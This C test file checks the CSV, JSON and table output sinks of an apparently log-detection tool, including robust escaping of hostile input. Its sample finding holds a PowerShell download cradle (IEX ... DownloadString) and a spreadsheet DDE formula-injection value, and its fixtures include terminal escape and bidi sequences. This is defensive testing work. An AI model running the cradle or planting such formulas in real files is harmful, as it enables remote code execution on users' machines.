/* SPDX-License-Identifier: Apache-2.0 */
/* The formats: what each makes of one finding, and that nothing hostile in any column or field breaks one.  The CSV
 * and JSON readers below are strict and small: they follow the two RFCs and take nothing else. */
#include "base/escape.h"
#include "base/limits.h"
#include "base/utf.h"
#include "src/output/excerpt.h"
#include "src/output/sink.h"
#include "src/output/width.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>

#define S(lit) { (const uint8_t *)("" lit), sizeof(lit) - 1 }

static const struct subject_part parts[] = {
	{ .record_id = 8812, .time = UINT64_C(133486382451234567), .offset = 4096, .number = 1 },
	{ .record_id = UINT64_MAX, .time = UINT64_C(133486382461234567), .offset = 8192, .number = 2 },
};
static const struct finding_field fields[] = {
	{ .name = S("ScriptBlockText"), .text = S("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')") },
	{ .name = S("Data"), .text = S("one \xC2\xA6 two") },
	{ .name = S("Path"), .null = true },
	{ .name = S("Data"), .text = S("three") },
};
static const struct finding_hit hits[] = { { .field = 0, .start = 31, .len = 14 } };

static struct finding
sample(void)
{
	struct finding f = { .verdict = VERDICT_MATCH_ON_PARTIAL, .parts = parts, .part_count = 2, .fields = fields,
		.field_count = 4, .hits = hits, .hit_count = 1, .text_field = 0 };

	f.column[COLUMN_TIMESTAMP] = SLICE("2024-01-02T03:04:05.1234567Z");
	f.column[COLUMN_LEVEL] = SLICE("high");
	f.column[COLUMN_VERDICT] = SLICE("match-on-partial");
	f.column[COLUMN_RULE_TITLE] = SLICE("Download Cradle In A Script Block");
	f.column[COLUMN_TACTICS] = SLICE("execution\0command-and-control\0");
	f.column[COLUMN_COMPUTER] = SLICE("WS-07");
	f.column[COLUMN_USER] = SLICE("CORP\\alice");
	f.column[COLUMN_EVENT_ID] = SLICE("4104");
	f.column[COLUMN_RECORD_IDS] = SLICE("8812\00018446744073709551615\0");
	f.column[COLUMN_PARTS] = SLICE("2/3");
	f.column[COLUMN_COMMAND_LINE] = SLICE("=cmd|' /C calc'!A0");
	f.column[COLUMN_TEXT] = fields[0].text;
	f.column[COLUMN_MATCHED] = SLICE("DownloadString\0");
	return f;
}

static struct buf
written(const struct sink_class *sink, const struct sink_options *options, const struct finding *f, uint64_t rows)
{
	struct buf b;

	buf_init(&b, SIZE_MAX / 2);
	sink->begin(options, &b);
	for (uint64_t row = 0; row < rows; row++)
		sink->finding(options, f, row, &b);
	sink->end(options, rows, &b);
	ck_assert(!b.failed);
	return b;
}

/* --- RFC 8259, nothing more --- */
static bool json_value(struct slice s, size_t *at, unsigned depth);

static bool
json_string(struct slice s, size_t *at)
{
	if (*at >= s.len || s.ptr[(*at)++] != '"')
		return false;
	while (*at < s.len && s.ptr[*at] != '"') {
		uint8_t c = s.ptr[(*at)++];

		if (c < 0x20)
			return false;
		if (c != '\\')
			continue;
		if (*at >= s.len || !strchr("\"\\/bfnrtu", s.ptr[*at]))
			return false;
		if (s.ptr[(*at)++] == 'u') {
			for (int i = 0; i < 4; i++, ++*at)
				if (*at >= s.len || !strchr("0123456789abcdefABCDEF", s.ptr[*at]))
					return false;
		}
	}
	return *at < s.len && s.ptr[(*at)++] == '"';
}

static void
json_blanks(struct slice s, size_t *at)
{
	while (*at < s.len && strchr(" \n\r\t", s.ptr[*at]) && s.ptr[*at])
		++*at;
}

static bool
json_items(struct slice s, size_t *at, uint8_t end, unsigned depth)
{
	++*at;
	json_blanks(s, at);
	if (*at < s.len && s.ptr[*at] == end)
		return ++*at;
	for (;;) {
		json_blanks(s, at);
		if (end == '}' && (!json_string(s, at) || *at >= s.len || s.ptr[(*at)++] != ':'))
			return false;
		if (!json_value(s, at, depth + 1))
			return false;
		json_blanks(s, at);
		if (*at >= s.len)
			return false;
		if (s.ptr[*at] == end)
			return ++*at;
		if (s.ptr[(*at)++] != ',')
			return false;
	}
}

static bool
json_value(struct slice s, size_t *at, unsigned depth)
{
	size_t start = *at;

	if (*at >= s.len || depth > 8)
		return false;
	switch (s.ptr[*at]) {
	case '"':
		return json_string(s, at);
	case '[':
	case '{':
		return json_items(s, at, s.ptr[*at] == '[' ? ']' : '}', depth);
	case 'n':
		*at += 4;
		return slice_eq(slice_sub(s, start, 4), SLICE("null"));
	default:
		while (*at < s.len && s.ptr[*at] >= '0' && s.ptr[*at] <= '9')
			++*at;
		return *at > start && (s.ptr[start] != '0' || *at == start + 1);
	}
}

static bool
json_is_valid(struct slice s)
{
	size_t at = 0;

	if (!utf_is_strict(s) || !json_value(s, &at, 0))
		return false;
	json_blanks(s, &at);
	return at == s.len;
}

/* --- RFC 4180: reads one line; false when it is not COLUMN_COUNT cells --- */
static bool
csv_row(struct slice line, struct buf cells[COLUMN_COUNT])
{
	size_t at = 0;

	for (size_t i = 0; i < COLUMN_COUNT; i++) {
		bool quoted = at < line.len && line.ptr[at] == '"';

		buf_reset(&cells[i]);
		at += quoted;
		for (; at < line.len && (quoted || line.ptr[at] != ','); at++) {
			if (line.ptr[at] == '"') {
				if (!quoted)
					return false;
				at++;
				if (at >= line.len || line.ptr[at] != '"') {
					quoted = false;
					break;
				}
			}
			buf_append_byte(&cells[i], line.ptr[at]);
		}
		if (quoted || (i + 1 < COLUMN_COUNT && (at >= line.len || line.ptr[at++] != ',')))
			return false;
	}
	return at == line.len;
}

static void
cells_init(struct buf cells[COLUMN_COUNT])
{
	for (size_t i = 0; i < COLUMN_COUNT; i++)
		buf_init(&cells[i], SIZE_MAX / 2);
}

static void
cells_fini(struct buf cells[COLUMN_COUNT])
{
	for (size_t i = 0; i < COLUMN_COUNT; i++)
		buf_fini(&cells[i]);
}

/* Header and one row; the row's cells are read. */
static void
check_csv(const struct finding *f, const struct sink_options *options, struct buf cells[COLUMN_COUNT], const char *name)
{
	struct buf b = written(&sink_csv, options, f, 1);
	struct slice rest = buf_view(&b), line;

	ck_assert_msg(utf_is_strict(rest), "%s: CSV is UTF-8", name);
	ck_assert(slice_split(&rest, '\n', &line) && csv_row(line, cells));
	ck_assert(slice_eq(buf_view(&cells[COLUMN_TEXT]), SLICE("Text")));
	ck_assert_msg(slice_split(&rest, '\n', &line) && csv_row(line, cells), "%s: one line of all columns", name);
	ck_assert_msg(rest.len == 0 && rest.ptr, "%s: and no other", name);
	for (size_t i = 0; i < COLUMN_COUNT; i++)
		ck_assert_msg(utf_units(buf_view(&cells[i])) <= 32767, "%s: %s fits a cell", name, columns[i].name);
	for (size_t at = 0; at < line.len; at++)
		if (line.ptr[at] < 0x20 || line.ptr[at] == 0x7F)
			ck_abort_msg("%s: control in CSV", name);
	buf_fini(&b);
}

/* Escape sequences of a table: those we emit ourselves, only with colour, and no other control but the line end. */
static void
check_table(const struct finding *f, const struct sink_options *options, const char *name)
{
	static const char *const sgr[] = { "\033[1m", "\033[2m", "\033[1;4m", "\033[0m", "\033[1;97;41m", "\033[1;31m",
		"\033[33m", "\033[36m" };
	struct buf b = written(&sink_table, options, f, 1);
	struct slice s = buf_view(&b), line;
	unsigned lines = 0;

	ck_assert_msg(utf_is_strict(s), "%s: the table is UTF-8", name);
	for (; slice_split(&s, '\n', &line) && s.ptr; lines++) {
		unsigned width = 0;

		for (size_t at = 0; at < line.len;) {
			uint32_t code = utf_next(line, &at);
			size_t skip = 0;

			for (size_t i = 0; code == 0x1B && options->color && i < ARRAY_LEN(sgr); i++)
				if (slice_starts_with(slice_sub(line, at - 1, 32), slice_from_text(sgr[i])))
					skip = strlen(sgr[i]) - 1;
			if ((code < 0x20 && !skip) || (code >= 0x7F && code <= 0x9F) || code == 0x202E || code == 0x2066)
				ck_abort_msg("%s: U+%04X reaches the terminal", name, (unsigned)code);
			at += skip;
			width += skip ? 0 : width_of_code(code);
		}
		ck_assert_msg(width <= (options->width ? options->width : 120), "%s: %u columns", name, width);
	}
	ck_assert_msg(lines >= 2 && lines <= 4, "%s: %u lines", name, lines);
	buf_fini(&b);
}

static void
check_json(const struct finding *f, const char *name)
{
	static const struct sink_options options = { .width = 0 };

	for (uint64_t rows = 0; rows <= 2; rows += 2) {
		struct buf b = written(&sink_json, &options, f, rows);

		ck_assert_msg(json_is_valid(buf_view(&b)), "%s: JSON of %u rows", name, (unsigned)rows);
		buf_fini(&b);
		b = written(&sink_jsonl, &options, f, rows);
		for (struct slice rest = buf_view(&b), line; rows && slice_split(&rest, '\n', &line) && rest.ptr;)
			ck_assert_msg(json_is_valid(line), "%s: a JSON line", name);
		buf_fini(&b);
	}
}

START_TEST(test_sample_csv)
{
	static const struct {
		enum column column;
		const char *text;
	} want[] = {
		{ COLUMN_TIMESTAMP, "2024-01-02T03:04:05.1234567Z" },
		{ COLUMN_END_TIME, "" },
		{ COLUMN_TACTICS, "execution \xC2\xA6 command-and-control" },
		{ COLUMN_RECORD_IDS, "8812 \xC2\xA6 18446744073709551615" },
		{ COLUMN_COMMAND_LINE, "'=cmd|' /C calc'!A0" },
		{ COLUMN_TEXT, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')" },
		{ COLUMN_DETAILS, "ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')"
			" \xC2\xA6 Data: one \xC2\xA6\xC2\xA6 two \xC2\xA6 Path:  \xC2\xA6 Data: three" },
	};
	struct sink_options options = { .bom = false };
	struct finding f = sample();
	struct buf cells[COLUMN_COUNT], b;

	cells_init(cells);
	check_csv(&f, &options, cells, "sample");
	for (size_t i = 0; i < ARRAY_LEN(want); i++)
		ck_assert_msg(slice_eq(buf_view(&cells[want[i].column]), slice_from_text(want[i].text)), "%s: %.*s",
			columns[want[i].column].name, SLICE_ARGS(buf_view(&cells[want[i].column])));
	options.csv_raw = true;
	check_csv(&f, &options, cells, "raw");
	ck_assert_uint_eq(cells[COLUMN_COMMAND_LINE].ptr[0], '=');
	options.bom = true;
	b = written(&sink_csv, &options, &f, 0);
	ck_assert(slice_starts_with(buf_view(&b), SLICE("\xEF\xBB\xBFTimestamp,EndTime,Level,Verdict,")));
	buf_fini(&b);
	cells_fini(cells);
}
END_TEST

static const char *const in_json[] = {
	"{\"Timestamp\":\"2024-01-02T03:04:05.1234567Z\",\"EndTime\":\"\",\"Level\":\"high\",",
	",\"Tactics\":[\"execution\",\"command-and-control\"],\"Techniques\":[],",
	",\"EventId\":4104,\"RecordIds\":[8812,\"18446744073709551615\"],\"ProcessId\":null,",
	",\"Event\":{\"ScriptBlockText\":\"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')\",\"Data\":[\"one \xC2\xA6 two\",\"three\"],\"Path\":null},\"Matches\":",
	",\"Matches\":[{\"Field\":\"ScriptBlockText\",\"Start\":31,\"Length\":14}],\"Records\":",
	",\"Records\":[{\"RecordId\":8812,\"Time\":\"2024-01-02T03:04:05.1234567Z\",\"Offset\":4096,\"Number\":1},",
};

START_TEST(test_sample_json)
{
	static const struct sink_options options = { .width = 0 };
	struct finding f = sample();
	struct buf b = written(&sink_jsonl, &options, &f, 1);

	ck_assert_msg(slice_find(buf_view(&b), slice_from_text(in_json[_i]), 0) != SIZE_MAX, "%s in %.*s", in_json[_i],
		SLICE_ARGS(buf_view(&b)));
	buf_fini(&b);
	check_json(&f, "sample");
}
END_TEST

START_TEST(test_lossy_json)
{
	static const struct sink_options options = { .width = 0 };
	static const struct finding_field lossy[] = { { .name = S("T"), .text = S("a\xED\xA0\xBD") } };
	struct finding f = { .fields = lossy, .field_count = 1, .text_is_lossy = true };
	struct buf b;

	f.column[COLUMN_TEXT] = lossy[0].text;
	b = written(&sink_jsonl, &options, &f, 1);
	ck_assert(slice_find(buf_view(&b), SLICE("\"Text\":\"a\xEF\xBF\xBD\""), 0) != SIZE_MAX);
	ck_assert(slice_find(buf_view(&b), SLICE(",\"TextUtf16\":\"YQA92A==\","), 0) != SIZE_MAX);
	buf_fini(&b);
	check_json(&f, "lossy");
}
END_TEST

START_TEST(test_sample_table)
{
	static const struct sink_options options = { .width = 100 };
	struct finding f = sample();
	struct buf b = written(&sink_table, &options, &f, 1);

	ck_assert_msg(slice_eq(buf_view(&b), SLICE(
		"2024-01-02 03:04:05  high      Download Cradle In A Script Block\n"
		"    WS-07  CORP\\alice  4104  record 8812  parts 2/3  match-on-partial\n"
		"    IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')\n")), "%.*s", SLICE_ARGS(buf_view(&b)));
	buf_fini(&b);
	b = written(&sink_table, &options, &f, 0);
	ck_assert_uint_eq(b.len, 0);
	buf_fini(&b);
}
END_TEST

static const struct nasty {
	const char *name;
	struct slice text;
	size_t repeat;
} nasties[] = {
	{ "controls", S("\0\x01\x07\x08\t\n\x0b\x0c\r\x1b[2J\x1b]0;x\x07\x7f"), 1 },
	{ "C1 and raw bytes", S("\xC2\x80\xC2\x9B\xC2\x9F\x80\x9B\xFE\xFF"), 1 },
	{ "bidi", S("\xE2\x80\xAA\xE2\x80\xAE\xE2\x81\xA6\xE2\x81\xA9\xD8\x9C"), 1 },
	{ "zero-width", S("\xE2\x80\x8B\xE2\x80\x8D\xEF\xBB\xBF\xC2\xAD"), 1 },
	{ "surrogates", S("\xED\xA0\x80\xED\xBF\xBF\xED\xA0\xBD\xED\xB8\x80"), 1 },
	{ "noncharacters", S("\xEF\xBF\xBE\xEF\xBF\xBF\xF4\x8F\xBF\xBF"), 1 },
	{ "markup", S("]]></script><b>&amp;\"'`"), 1 },
	{ "formula", S("=HYPERLINK(\"http://x\",\"y\")"), 1 },
	{ "line ends", S("\r\n\r\n,\"\r\n"), 1 },
	{ "quotes", S("\"\",\"\\\"\\"), 1 },
	{ "list that does not end", S("a\0b\0c"), 1 },
	{ "64 KiB", S("abcdefgh"), 8192 },
	{ "64 KiB of bidi", S("\xE2\x80\xAE"), 22000 },
	{ "a long run of marks", S("\xCC\x81"), 40000 },
	{ "wide", S("\xE4\xBD\xA0"), 30000 },
	{ "beyond the BMP", S("\xF0\x9F\x98\x80"), 40000 },
	{ "bars", S(" \xC2\xA6 x: "), 9000 },
	{ "quotes for ever", S("\""), 70000 },
	{ "NULs for ever", S("\0"), 70000 },
};

/* Each nasty text in every column, field, name and system hit, the match at its start, middle and end. */
START_TEST(test_nasty)
{
	const struct nasty *t = &nasties[_i / 3];
	struct finding_field bad[6];
	struct finding_hit hit[2];
	struct buf text, cells[COLUMN_COUNT];
	struct finding f = sample();

	cells_init(cells);
	buf_init(&text, SIZE_MAX / 2);
	for (size_t i = 0; i < t->repeat; i++)
		buf_append(&text, t->text);
	for (size_t i = 0; i < COLUMN_COUNT; i++)
		f.column[i] = buf_view(&text);
	for (size_t i = 0; i < ARRAY_LEN(bad); i++)
		bad[i] = (struct finding_field){ .name = i == 3 ? SLICE("one") : buf_view(&text), .text = buf_view(&text) };
	hit[0] = (struct finding_hit){ .start = text.len / 2 * (unsigned)(_i % 3), .len = 5 };
	hit[1] = (struct finding_hit){ .field = UINT32_MAX, .name = buf_view(&text), .start = UINT64_MAX, .len = UINT64_MAX };
	f.fields = bad;
	f.field_count = ARRAY_LEN(bad);
	f.hits = hit;
	f.hit_count = 2;
	f.text_is_lossy = true;
	if (_i % 3 == 1) /* JSON cuts nothing, so where the match is makes no difference */
		check_json(&f, t->name);
	check_csv(&f, &(struct sink_options){ .csv_raw = false }, cells, t->name);
	ck_assert_msg(utf_clip(buf_view(&cells[COLUMN_TEXT]), LIMIT_CSV_CELL + 2).len == cells[COLUMN_TEXT].len, "%s", t->name);
	check_table(&f, &(struct sink_options){ .color = false, .width = 80 }, t->name);
	check_table(&f, &(struct sink_options){ .color = true, .width = 40 }, t->name);
	buf_fini(&text);
	cells_fini(cells);
}
END_TEST

/* Text of 20,000 characters with the match at `hit`: at most 4,000 are shown, the match among them. */
static const struct cut {
	const char *name;
	size_t hit;
	bool front, back;
} cuts[] = {
	{ "at the start", 0, false, true },
	{ "early", 500, false, true },
	{ "in the middle", 10000, true, true },
	{ "near the end", 19500, true, false },
	{ "at the end", 19995, true, false },
};

START_TEST(test_cut)
{
	const struct cut *t = &cuts[_i];
	struct buf text, cells[COLUMN_COUNT];
	struct finding f = sample();
	struct finding_hit hit = { .start = t->hit * 2, .len = 10 };
	struct slice cell;

	buf_init(&text, SIZE_MAX / 2);
	for (size_t i = 0; i < 20000; i++)
		buf_append(&text, i >= t->hit && i < t->hit + 5 ? SLICE("\xC3\x9F") : SLICE("\xC3\xA4"));
	f.column[COLUMN_TEXT] = buf_view(&text);
	f.hits = &hit;
	cells_init(cells);
	check_csv(&f, &(struct sink_options){ .bom = false }, cells, t->name);
	cell = buf_view(&cells[COLUMN_TEXT]);
	ck_assert_msg(utf_units(cell) <= LIMIT_CSV_TEXT && utf_units(cell) >= LIMIT_CSV_TEXT - 2, "%s: %zu", t->name,
		utf_units(cell));
	ck_assert_msg(slice_starts_with(cell, SLICE("\xE2\x80\xA6")) == t->front, "%s: cut in front", t->name);
	ck_assert_msg(slice_ends_with(cell, SLICE("\xE2\x80\xA6")) == t->back, "%s: cut behind", t->name);
	ck_assert_msg(slice_find(cell, SLICE("\xC3\x9F\xC3\x9F\xC3\x9F\xC3\x9F\xC3\x9F"), 0) != SIZE_MAX, "%s", t->name);
	buf_fini(&text);
	cells_fini(cells);
}
END_TEST

static const struct choice {
	const char *path, *name;
} choices[] = {
	{ "out.csv", "csv" }, { "OUT.CSV", "csv" }, { "a.b/x.jsonl", "jsonl" }, { "x.json", "json" }, { "x.txt", "table" },
	{ "csv", NULL }, { ".csv", NULL }, { "x.csv/", NULL }, { "x.csv/y", NULL }, { "x.csv.gz", NULL }, { "", NULL },
};

START_TEST(test_choice)
{
	const struct sink_class *sink = sink_for_file(choices[_i].path);

	ck_assert_msg((sink != NULL) == (choices[_i].name != NULL), "%s", choices[_i].path);
	ck_assert_msg(!sink || sink == sink_named(choices[_i].name), "%s: %s", choices[_i].path, sink ? sink->name : "");
	ck_assert_ptr_null(sink_named("xml"));
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("sinks");
	TCase *tc = tcase_create("sinks");
	SRunner *sr;
	int failed;

	suite_add_tcase(s, tc);
	tcase_set_timeout(tc, 600);
	tcase_add_test(tc, test_sample_csv);
	tcase_add_loop_test(tc, test_sample_json, 0, (int)ARRAY_LEN(in_json));
	tcase_add_test(tc, test_lossy_json);
	tcase_add_test(tc, test_sample_table);
	tcase_add_loop_test(tc, test_nasty, 0, (int)ARRAY_LEN(nasties) * 3);
	tcase_add_loop_test(tc, test_cut, 0, (int)ARRAY_LEN(cuts));
	tcase_add_loop_test(tc, test_choice, 0, (int)ARRAY_LEN(choices));
	sr = srunner_create(s);
	srunner_run_all(sr, CK_ENV);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
